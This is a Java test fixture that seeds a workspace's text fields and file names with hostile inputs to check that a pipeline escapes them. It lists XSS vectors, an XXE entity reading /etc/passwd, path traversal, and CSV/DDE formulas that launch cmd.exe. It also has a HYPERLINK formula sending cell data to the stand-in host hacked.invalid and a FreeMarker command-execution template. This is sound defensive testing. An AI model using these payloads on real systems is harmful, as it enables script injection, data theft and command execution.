package org.kaoping.pipeline;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Puts what browsers, office programs and templates might run into every text that people write
 * freely, and into names of files. Source of the kinds: OWASP, “XSS Filter Evasion” and “CSV
 * Injection”.
 */
public final class HostileContent {
  /** Each would set {@code hacked}, ask a server, or end what it stands in. */
  static final List<String> TEXTS =
      List.of(
          // Elements
          "<script>window.hacked=1</script>",
          "<ScRiPt src=//hacked.invalid></sCrIpT >",
          "<svg><script>window.hacked=1</script></svg>",
          "<svg/onload=window.hacked=1>",
          "<img src=x onerror=window.hacked=1>",
          "<iframe src=\"javascript:parent.hacked=1\" srcdoc=\"<script>parent.hacked=1</script>\">",
          "<object data=\"data:text/html,<script>top.hacked=1</script>\"><embed src=hacked.swf>",
          "<details open ontoggle=window.hacked=1><summary>x",
          "<form action=http://hacked.invalid/><button formaction=javascript:window.hacked=1>",
          "<style>*{background:url(http://hacked.invalid/)}@import '//hacked.invalid';</style>",
          "<link rel=stylesheet href=http://hacked.invalid/><base href=http://hacked.invalid/>",
          "<meta http-equiv=refresh content=\"0;url=http://hacked.invalid/\">",
          "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
          "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=1>\">",
          "<template><img src=http://hacked.invalid/></template>",
          "<!-- --!><body onpageshow=window.hacked=1>",
          // Ends of what it stands in
          "\"><img src=x onerror=window.hacked=1>",
          "'><svg/onload=window.hacked=1>",
          "\" onmouseover=window.hacked=1 autofocus onfocus=window.hacked=1 x=\"",
          "' autofocus onfocus=window.hacked=1 tabindex=1 x='",
          "` onfocus=window.hacked=1 autofocus",
          "</title></textarea></script></style></noscript><script>window.hacked=1</script>",
          "</text></svg><script>window.hacked=1</script>",
          "--><script>window.hacked=1</script><!--",
          "]]><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">window.hacked=1</x:script>",
          "<![CDATA[<script>window.hacked=1</script>]]>",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y; z",
          // Addresses
          "javascript:window.hacked=1",
          "JaVaScRiPt&colon;window.hacked=1",
          "java&#9;script:window.hacked=1",
          "data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=",
          "//hacked.invalid/%2e%2e/..;/",
          "../../../../etc/passwd",
          // Scripts and data
          "\\\"];window.hacked=1;//\\u003cscript\\u003e",
          "'-(window.hacked=1)-'",
          "\"}],\"__proto__\":{\"hacked\":1},\"x\":[{\"y\":\"",
          "constructor.constructor('window.hacked=1')()",
          "&lt;script&gt;window.hacked=1&lt;/script&gt;&#60;img src=x onerror=window.hacked=1&#62;",
          "&amp;lt;b&amp;gt; &quot; &apos; &nbsp; &#x3c;b&#x3e;",
          "url(http://hacked.invalid/);}*{color:red}/*",
          "expression(window.hacked=1)",
          // Templates and formats
          "${window.hacked=1}${7*7}<#assign x=1>[=7*7]",
          "<@x/><#list 1..9 as i>${i}</#list>",
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
          "#{7*7} *{7*7} <%= 7*7 %> @{7*7}",
          "{{total}} {{constructor}} {{/every/count}}",
          "%n%s%d%1$s {0} {1,number} '{'",
          // Tables and documents
          "=HYPERLINK(\"http://hacked.invalid/\"&A1)",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "＝1＋1",
          "=1+1\",=2+2;=3+3",
          "{=DDE(\"cmd\";\"/C calc\";\"x\")} DDEAUTO c:\\windows\\system32\\cmd.exe",
          "{ INCLUDETEXT \"http://hacked.invalid/\" }",
          ") >> /S /JavaScript /JS (app.alert(1)) \\051 \\",
          "(/Launch) endobj stream %%EOF",
          "_x003C_b_x003E_ &#x0; &#xD800;",
          // Markdown
          "[x](javascript:window.hacked=1) ![y](http://hacked.invalid/) <http://hacked.invalid>",
          "[x]: javascript:window.hacked=1 `code` **b** | c | \\<b>",
          "~~~~~~ # title --- === > quote");

  /** The same for texts that have little room. */
  private static final List<String> SHORT =
      List.of(
          "<b>\"'&",
          "=1+1",
          "${7*7}",
          "</a>",
          "{{x}}",
          "@SUM(A1)",
          "]]>",
          "<!--",
          "&lt;",
          "%s{0}",
          "\\\");//",
          "<#if>");

  /** Columns that are no wider than their words. */
  private static final Set<String> NARROW =
      Set.of(
          "scheme indicator.short",
          "scheme grades.bands[].title",
          "result assessments[].grade",
          "scheme vetoes[].title");

  /** What tables on paper can break into lines (N010). */
  private static final Pattern WRAPS = Pattern.compile("(?:\\S{0,24}(?:\\s|$))*");

  /** Names that are allowed, of files that a page has and of one that is a page. */
  private static final String NAME = "it's &amp; ${7} (=x) onload=a; [y] %41 @b `c` #";

  private int next;

  private HostileContent() {}

  /**
   * Writes a workspace full of it.
   *
   * @return what was written, by field
   */
  public static Map<String, Set<String>> write(Path workspace) throws IOException {
    HostileContent content = new HostileContent();
    Map<String, Set<String>> written = EveryText.write(workspace, content::harm);
    TestWorkspace.write(
        workspace.resolve("content/" + NAME + ".md"),
        "title=" + NAME + "\ntype=page\nstatus=published\n~~~~~~\n\n正文。\n");
    TestWorkspace.write(workspace.resolve("content/" + NAME + ".txt"), NAME);
    return written;
  }

  private String harm(String field, String text) {
    if (isNarrow(field)) {
      return text + SHORT.get(next++ % SHORT.size());
    }
    String hostile = next();
    while (field.equals("units units[].name") && !WRAPS.matcher(hostile).matches()) {
      hostile = next();
    }
    return "=+-@\t＝".indexOf(hostile.charAt(0)) >= 0 ? hostile + text : text + hostile;
  }

  private String next() {
    return TEXTS.get(next++ % TEXTS.size());
  }

  private static boolean isNarrow(String field) {
    return field.startsWith("header ") || NARROW.contains(field);
  }
}
